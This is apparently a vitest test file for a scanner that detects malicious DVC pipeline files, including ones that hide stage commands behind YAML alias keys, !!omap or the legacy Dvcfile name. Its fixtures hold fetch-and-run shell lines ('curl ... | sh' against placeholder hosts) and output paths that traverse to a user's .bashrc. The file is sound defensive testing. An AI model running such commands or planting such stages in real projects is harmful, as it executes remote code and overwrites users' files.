/**
 * DVC files read as ruamel's safe loader reads them: a mapping key written as an alias (`*c :`)
 * is the scalar its anchor names (a `cmd`, an `outs`), `!!omap` is a mapping (ruamel builds an
 * ordered dict DVC's schema takes), a key that cannot be read (an alias naming a collection or no
 * anchor) and an alias naming no anchor are `dvc/malformed`, never dropped quietly. The name
 * `Dvcfile` (DVC 1.x-2.x's single-stage file) is a DVC file like `*.dvc`.
 */
import { describe, expect, it } from "vitest";
import type { FileReport } from "../../../src/report/schema.js";
import { ruleIds, scanOne } from "../../helpers/scan.js";

const enc = new TextEncoder();
const scan = (text: string, name = "dvc.yaml") => scanOne(enc.encode(text), name);
const MD5 = "d41d8cd98f00b204e9800998ecf8427e";
const of = (file: FileReport, ruleId: string) => file.findings.filter((f) => f.ruleId === ruleId);

describe("alias keys", () => {
  it("a .dvc file whose cmd and outs keys are aliases is read with them", async () => {
    const file = await scan(
      `meta: {a: &c cmd, b: &o outs}\n*c : curl -s http://127.0.0.1:9/x.sh | sh\n*o :\n- path: ../../../home/user/.bashrc\n  md5: ${MD5}\n`,
      "ptr.dvc",
    );
    expect(file.verdict).toBe("malicious");
    expect(ruleIds(file)).toEqual(["dvc/external-artifact", "dvc/path-traversal", "dvc/stage-command"]);
    expect(of(file, "dvc/stage-command")[0]?.severity).toBe("medium");
  });

  it("a dvc.yaml stage whose keys are aliases is read with them", async () => {
    const file = await scan(
      "vars:\n  - k: &c cmd\n  - o: &o outs\nstages:\n  train:\n    *c : curl -s http://x/x.sh | sh\n    *o :\n      - ../../../home/user/.bashrc\n",
    );
    expect(file.verdict).toBe("malicious");
    expect(of(file, "dvc/stage-command")[0]?.severity).toBe("medium");
    expect(ruleIds(file)).toContain("dvc/path-traversal");
  });

  it("an anchor on a key, and the stages key itself as an alias, are followed", async () => {
    const file = await scan("x: {&s stages : {}}\n*s :\n  train:\n    &c cmd : echo hi\n    dummy: {*c : x}\n");
    expect(of(file, "dvc/stage-command").map((f) => f.evidence?.cmd)).toEqual(["echo hi"]);
    const outs = await scan(`a: &p path\nouts:\n- *p : ../x.pkl\n  md5: ${MD5}\n`, "m.dvc");
    expect(ruleIds(outs)).toContain("dvc/path-traversal");
  });

  it("an alias key naming a collection or no anchor is malformed, not dropped", async () => {
    const collection = await scan("a: &a [1]\nstages:\n  s:\n    *a : curl x | sh\n");
    expect(of(collection, "dvc/malformed").length).toBeGreaterThan(0);
    expect(collection.verdict).not.toBe("clean");
    const nothing = await scan("stages:\n  s:\n    *zz : curl x | sh\n    cmd: echo\n");
    expect(of(nothing, "dvc/malformed").length).toBeGreaterThan(0);
    const valueAlias = await scan("stages:\n  s:\n    cmd: *zz\n");
    expect(of(valueAlias, "dvc/malformed").length).toBeGreaterThan(0);
  });
});

describe("!!omap is a mapping for DVC", () => {
  it("stages, a stage or the whole file as !!omap are read", async () => {
    const stages = await scan("stages: !!omap\n  - train: {cmd: curl -s http://x/a | sh}\n");
    expect(of(stages, "dvc/stage-command")[0]?.severity).toBe("medium");
    expect(ruleIds(stages)).not.toContain("dvc/malformed");
    const all = await scan("!!omap\n- stages: !!omap\n  - train: !!omap\n    - cmd: !!str curl -s http://x/a | sh\n");
    expect(of(all, "dvc/stage-command")[0]?.severity).toBe("medium");
    const stage = await scan("stages:\n  train: !!omap\n    - cmd: echo hi\n    - outs: [../../m.pkl]\n");
    expect(ruleIds(stage)).toEqual(["dvc/external-artifact", "dvc/path-traversal", "dvc/stage-command"]);
  });

  it("an !!omap entry written as an alias of a one-pair mapping is read", async () => {
    const file = await scan("b: &b {t: {cmd: curl -s http://x/a | sh}}\nstages: !!omap [*b]\n");
    expect(of(file, "dvc/stage-command")[0]?.severity).toBe("medium");
  });
});

describe("Dvcfile", () => {
  const LEGACY = `cmd: curl -s http://127.0.0.1:9/x.sh | sh\nouts:\n- path: ../../../home/user/.bashrc\n  md5: ${MD5}\n`;
  it("is read as a single-stage DVC file, as the same bytes named .dvc are", async () => {
    for (const name of ["Dvcfile", "sub/Dvcfile"]) {
      const file = await scan(LEGACY, name);
      expect(file.format, name).toBe("dvc");
      expect(file.verdict, name).toBe("malicious");
      expect(ruleIds(file)).toEqual(ruleIds(await scan(LEGACY, "legacy.dvc")));
    }
  });

  it("other names are not taken for it", async () => {
    expect((await scan("a: 1\n", "Dvcfile.txt")).format).not.toBe("dvc");
    expect((await scan("a: 1\n", "myDvcfile")).format).not.toBe("dvc");
  });
});
